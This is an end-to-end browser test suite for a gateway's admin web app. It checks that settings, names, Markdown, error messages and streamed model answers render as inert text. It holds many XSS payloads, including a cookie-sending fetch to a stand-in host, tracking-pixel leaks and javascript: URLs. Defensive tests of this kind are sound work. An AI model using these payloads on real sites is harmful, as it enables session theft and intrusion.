import type { Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { addChannel } from '../helpers/seed.ts'
import { isTorture, sampled } from '../helpers/torture.ts'
import { go, openStage, type Stage } from './stage.ts'

/** Part I of docs/reference/trust-cases.md: the browser executes nothing that a setting, a name or a message contains. */

const act = `window.hostile=1;fetch('https://canary.test/'+document.cookie)`
const quoted = act.replaceAll("'", '&#39;')
const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'iframe',
  'marquee',
  'select autofocus',
]
const events = [
  'onerror',
  'onload',
  'ontoggle',
  'onfocus',
  'onstart',
  'onmouseover',
  'onanimationstart',
  'onbeforetoggle',
  'onfocusin',
  'onpointerenter',
]
const wholes = [
  `<script>${act}</script>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<script src="https://canary.test/a.js"></script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `"><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin="${quoted}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${quoted}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${quoted}">`,
  `<a href="javascript:${quoted}">a</a>`,
  `<a href=" java\tscript:${quoted}">a</a>`,
  `<a href="data:text/html,<script>${quoted}</script>">a</a>`,
  `<form action="javascript:${quoted}"><button>x</button></form>`,
  `<object data="https://canary.test/x"></object>`,
  `<embed src="https://canary.test/x">`,
  `<link rel=stylesheet href="https://canary.test/x.css">`,
  '<style>body{background:url(https://canary.test/a.png)}</style>',
  '<style>@import "https://canary.test/a.css"; main{display:none}</style>',
  '<svg><style>body{background:url(https://canary.test/b.png)}</style><path d="M0 0"/></svg>',
  `<meta http-equiv=refresh content="0;url=https://canary.test/">`,
  `<base href="https://canary.test/">`,
  `<iframe src="javascript:${quoted}"></iframe>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${quoted}>">`,
  `[link](javascript:${act})`,
  `![image](x "onerror=${quoted}")`,
  `<!--><img src=x onerror="${quoted}">-->`,
  `<xss id=x tabindex=1 onfocus="${quoted}"></xss>`,
  '{{constructor.constructor("window.hostile=1")()}}',
]
/** In the ordinary run every tag with some events and every event with some tags; each form has other pairs. */
const pairs = (form: number) => tags.flatMap((tag, nth) => sampled(events, 4, nth + form).map((event) => [tag, event] as const))
const payloads = [
  ...wholes,
  ...pairs(0).map(([tag, event]) => `<${tag} ${event}="${quoted}">`),
  ...pairs(1).map(([tag, event]) => `<${tag}\n${event.toUpperCase()}=\`${quoted}\`/>`),
  ...pairs(2).map(([tag, event]) => `<b title='"'><${tag} x="'" ${event}='${act.replaceAll("'", '`')}'>`),
]

/** All payloads, and further ones for the parsers of Markdown, diagrams and formulas. */
const marked = [
  `\`\`\`html\n${wholes.join('\n')}\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${act}>"] --> B; click A "javascript:${act}"\n\`\`\``,
  `\`\`\`svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="${quoted}"><script>${act}</script></svg>\n\`\`\``,
  `$$\\href{javascript:${act}}{x}\\includegraphics{https://canary.test/x.png}$$`,
  `[run](javascript:${act}) [run](JaVaScRiPt:${act}) [run](&#106;avascript:${act}) [run](java&Tab;script:${act})`,
  `[run][act] [run]\n\n[act]: javascript:${act}\n[run]: <javascript:${act}> '"><img src=x onerror="${quoted}">'`,
  '[page](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+) [old](vbscript:x) <javascript:window.hostile=1>',
  '<https://canary.test/autolink> https://canary.test/bare',
  `[a](<"onmouseover="${quoted}"> "\\" onfocus=${quoted} autofocus x=\\"") ![a"onerror="${quoted}](x '"onerror="${quoted}"')`,
  `<b title="\n\n\`\`\`\n"><img src=x onerror="${quoted}">\n\`\`\`\n\n- \`<b title="\` <img src=x onerror="${quoted}"> \`">\``,
  `# <img src=x onerror="${quoted}"> [<svg onload="${quoted}">](x) <xss\n\nonfocus="${quoted}" tabindex=0>`,
  `| a | b |\n|---|---|\n| <img src=x onerror="${quoted}"> | [x](javascript:${act}) |`,
  ...payloads,
]

/** Content that a model can write. Operators may show images of other sites; a model could use their URLs to leak data. */
const answers = [
  ...marked,
  '![pixel](https://canary.test/pixel.png)',
  '![pixel][there]\n\n[there]: https://canary.test/pixel.png',
  '[![pixel](https://canary.test/a.png)](https://canary.test/b)',
  '![drawing](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5ob3N0aWxlPTEiLz4=)',
  '![page](//canary.test/pixel.png)',
  `| a | b |\n|---|---|\n| <img src=x onerror="${quoted}"> | ![x](https://canary.test/cell.png) |`,
  `[^1]\n\n[^1]: <img src=x onerror="${quoted}"> ![x](https://canary.test/note.png)`,
]

const acting = 'script, style, iframe, object, embed, form, base, meta, link, math'

async function expectInert(shown: Locator, refused = `${acting}, video, audio`): Promise<void> {
  expect(await shown.locator(refused).count()).toBe(0)
  const risky = await shown
    .locator('*')
    .evaluateAll((elements) =>
      elements.flatMap((element) =>
        [...element.attributes]
          .filter(
            ({ name, value }) =>
              /^on/.test(name) ||
              (/^(?:href|src|action)$/.test(name) && !/^(?:https?|mailto):$/.test(new URL(value, location.href).protocol)),
          )
          .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
      ),
    )
  expect(risky).toEqual([])
}

let stage: Stage
beforeAll(async () => {
  stage = await openStage()
})
afterAll(() => stage.stop())

async function open(who: 'nobody' | 'root', language: 'zh' | 'en' = 'en') {
  const { page } = await stage.open(who, { language })
  const reached: string[] = []
  const dialogs: string[] = []
  // Requests are observed, not intercepted: with interception every page loads every script anew. No server has this name.
  page.on('request', (request) => {
    if (new URL(request.url()).hostname === 'canary.test') reached.push(request.url())
  })
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const expectUnharmed = async () => {
    // Waits in the page until active content would have run.
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50))))
    expect(await page.evaluate('window.hostile')).toBeUndefined()
    expect([reached, dialogs]).toEqual([[], []])
  }
  return { page, expectUnharmed }
}

/** Does not wait for a heading or a paragraph, because the content may have neither. */
async function visit(page: Page, path: string): Promise<void> {
  await page.goto(path, { waitUntil: 'networkidle' })
  await page.locator('main').waitFor()
}

const save = (key: string, value: string) => stage.server.raw('PUT /api/option/', { key, value })

describe('hostile content', () => {
  it(`[T183] of ${payloads.length} kinds never runs in pages, notice, footer and name`, async () => {
    expect(payloads.length).toBeGreaterThanOrEqual(isTorture ? 300 : 100)
    const { page, expectUnharmed } = await open('nobody')
    const half = Math.ceil(payloads.length / 2)
    for (const separator of sampled(['\n', '\n\n'], 2)) {
      await save('About', payloads.slice(0, half).join(separator))
      await save('HomePageContent', payloads.slice(half).join(separator))
      await save('Notice', payloads.slice(half).join(separator))
      await save('Footer', payloads.slice(0, half).join(separator))
      await save('SystemName', '<img src=x onerror=alert(1)>')
      for (const path of ['/', '/about', '/login']) {
        await visit(page, path)
        await expectUnharmed()
      }
    }
    for (const key of ['About', 'HomePageContent', 'Notice', 'Footer']) await save(key, '')
    await save('SystemName', 'Sluice')
  })

  it("[T183] [T184] never runs in operators' Markdown, alone and beside HTML", async () => {
    const { page, expectUnharmed } = await open('nobody')
    const shown = page.getByRole('main')
    const texts = [
      marked.map((text) => text.replaceAll('<', '&lt;')).join('\n\n'),
      `- ${marked.join('\n- ')}`,
      // In reverse order, so that an unclosed payload does not disable the others.
      marked.toReversed().join('\n\n'),
      marked.join('\n\n'),
    ]
    for (const text of sampled(texts, 2)) {
      await save('About', `# Title\n\n${text}`)
      await visit(page, '/about')
      await shown.getByRole('heading', { name: 'Title', exact: true }).waitFor()
      await expectInert(shown, acting)
      await expectUnharmed()
    }
    await save('Notice', `# Title\n\n${marked.join('\n')}`)
    await visit(page, '/')
    const notice = page.getByRole('dialog', { name: 'Announcement' })
    await notice.getByRole('heading', { name: 'Title', exact: true }).waitFor()
    await expectInert(notice, acting)
    await expectUnharmed()
    for (const key of ['About', 'Notice']) await save(key, '')
  })

  it(`[T183] of ${payloads.length} kinds is text in names of channels, tags, tokens, users, codes, groups and site`, async () => {
    const { db } = stage.server.app
    await addChannel(stage.server, { url: stage.upstream.url, models: 'm<b>', name: 'x', tag: 'x' })
    await stage.server.call('POST /api/token/', { name: 'x', unlimited_quota: true })
    await stage.server.call('POST /api/redemption/', { name: 'x', quota: 1, count: 1 })
    // All payloads together, bypassing the checks of saved values.
    const all = payloads.join(' ')
    await db.updateTable('channels').set({ name: all, tag: all, models: all, group: all }).execute()
    await db.updateTable('tokens').set({ name: all, group: all }).execute()
    await db.updateTable('redemptions').set({ name: all }).execute()
    await db
      .updateTable('users')
      .set({ username: all, display_name: all, email: all, group: all })
      .where('username', '=', 'user')
      .execute()
    const log = {
      user_id: 1,
      created_at: Math.floor(Date.now() / 1000),
      content: all,
      username: all,
      token_name: all,
      model_name: all,
      group: all,
    }
    for (const type of [2, 5])
      await db
        .insertInto('logs')
        .values({ ...log, type })
        .execute()
    await save('UserUsableGroups', JSON.stringify({ default: all }))

    const { page, expectUnharmed } = await open('root')
    await page.route('**/api/status', async (route) => {
      const response = await route.fetch()
      const { data, ...rest } = (await response.json()) as { data: object }
      await route.fulfill({ response, json: { ...rest, data: { ...data, system_name: all } } })
    })
    for (const path of ['/channel', '/token', '/user', '/redemption', '/log']) {
      await go(page, path)
      const shown = page.locator('main').getByText('{{constructor.constructor("window.hostile=1")()}}').first()
      await shown.waitFor({ state: 'attached' })
      await expectUnharmed()
    }
    await go(page, '/pricing')
    await expectUnharmed()
    await db
      .updateTable('users')
      .set({ username: 'user', display_name: '', email: '', group: 'default' })
      .where('id', '=', 2)
      .execute()
  })

  it('[T183] [T185] is shown as text in names and messages', async () => {
    const name = '<img src=x onerror=alert(1)>'
    await addChannel(stage.server, { url: stage.upstream.url, models: 'm<c>', name, tag: name })
    const { page, expectUnharmed } = await open('root')
    for (const path of ['/setting?tab=audit', '/user']) {
      await go(page, path)
      await expectUnharmed()
    }
    await go(page, '/channel')
    await page.getByText(name).first().waitFor()
    // The message of a refusal is shown unchanged.
    await page.route(/\/api\/channel\/?(search)?\?/, (route) =>
      route.fulfill({ json: { success: false, message: `${name}<script>window.hostile=1</script>`, code: 'x' } }),
    )
    await page.reload()
    await page.getByText(`${name}<script>`).first().waitFor()
    await expectUnharmed()

    // And so is an upstream's error message.
    const model = 'gpt-4o-mini'
    await addChannel(stage.server, { url: stage.upstream.url, models: model })
    stage.upstream.program(model, { status: 400, body: { error: { message: `${name}<script>window.hostile=1</script>` } } })
    await go(page, '/playground')
    await page.getByRole('combobox', { name: /^Model/ }).click()
    await page.getByRole('option', { name: model, exact: true }).click()
    await page.getByRole('textbox', { name: 'Message' }).fill('try it')
    await page.keyboard.press('Enter')
    await page.getByText(`${name}<script>`).first().waitFor()
    await expectUnharmed()
  })

  it('[T184] is shown in streamed and stored answers of a model, and neither runs nor loads anything', async () => {
    const model = 'gpt-4o'
    const { server, upstream } = stage
    await addChannel(server, { url: upstream.url, models: model })
    // In chunks that end anywhere, as models send them.
    const pieces = answers.join('\n\n').match(/[\s\S]{1,301}/g) ?? []
    const chunk = (content: string) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`
    upstream.program(model, {
      contentType: 'text/event-stream',
      bytes: `${pieces.map(chunk).join('')}${chunk('\n\nThe end of it.')}data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}],"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}\n\ndata: [DONE]\n\n`,
      pieceBytes: 500,
      pauseMs: 1,
    })
    const { page, expectUnharmed } = await open('root')
    await go(page, '/playground')
    await page.getByRole('combobox', { name: /^Model/ }).click()
    await page.getByRole('option', { name: model, exact: true }).click()
    await page.getByRole('textbox', { name: 'Message' }).fill('try it')
    await page.keyboard.press('Enter')
    const shown = page.getByRole('article', { name: model })
    await shown.getByText('The end of it.').waitFor()
    await expectInert(shown)
    await expectUnharmed()

    await page.reload()
    await shown.getByText('The end of it.').waitFor()
    await expectInert(shown)
    for (const link of await shown.locator('a').all()) await link.hover({ timeout: 5000, force: true }).catch(() => {})
    await expectUnharmed()
  })

  it('[T187] is refused when it is saved as an address that would run', async () => {
    for (const value of [`javascript:${act}`, 'data:text/html,x', ' javascript:x', 'vbscript:x', 'file:///etc/passwd']) {
      for (const key of [
        'Logo',
        'TopUpLink',
        'ChatLink',
        'ChatLink2',
        'WeChatAccountQRCodeImageURL',
        'ServerAddress',
        'ReleaseFeedUrl',
      ])
        expect(await (await save(key, value)).json(), `${key} ${value}`).toMatchObject({ success: false })
      expect(await (await save('Chats', JSON.stringify([{ x: value }]))).json(), value).toMatchObject({ success: false })
    }
    // The logo may be an SVG: it is loaded as an image, in which scripts do not run.
    const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${quoted}"><script>${act}</script></svg>`
    const { page, expectUnharmed } = await open('nobody')
    expect(await (await save('Logo', `data:image/svg+xml,${encodeURIComponent(drawing)}`)).json()).toMatchObject({
      success: true,
    })
    await visit(page, '/login')
    await page.locator('img[src^="data:image/svg"]').first().waitFor()
    await expectUnharmed()
    await save('Logo', '')
  })

  it('[T188] on an external page is framed without permissions, and the policy allows only its origin', async () => {
    const { page, expectUnharmed } = await open('nobody')
    await page.route('https://pages.test/**', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: '<h1>Elsewhere</h1><script>try { parent.hostile = 1 } catch {} try { top.location = "https://canary.test/" } catch {}</script>',
      }),
    )
    await save('About', 'https://pages.test/about')
    const [response] = await Promise.all([page.waitForResponse('**/about'), page.goto('/about')])
    expect(response.headers()['content-security-policy']).toMatch(
      /frame-src https:\/\/pages\.test[ ;]|frame-src [^;]*https:\/\/pages\.test/,
    )
    await page.frameLocator('iframe').getByRole('heading', { name: 'Elsewhere' }).waitFor()
    expect(await page.locator('iframe').getAttribute('sandbox')).not.toMatch(/allow-same-origin|allow-top-navigation/)
    await expectUnharmed()
    expect(page.url()).toContain('/about')
    await save('About', '')
  })
})
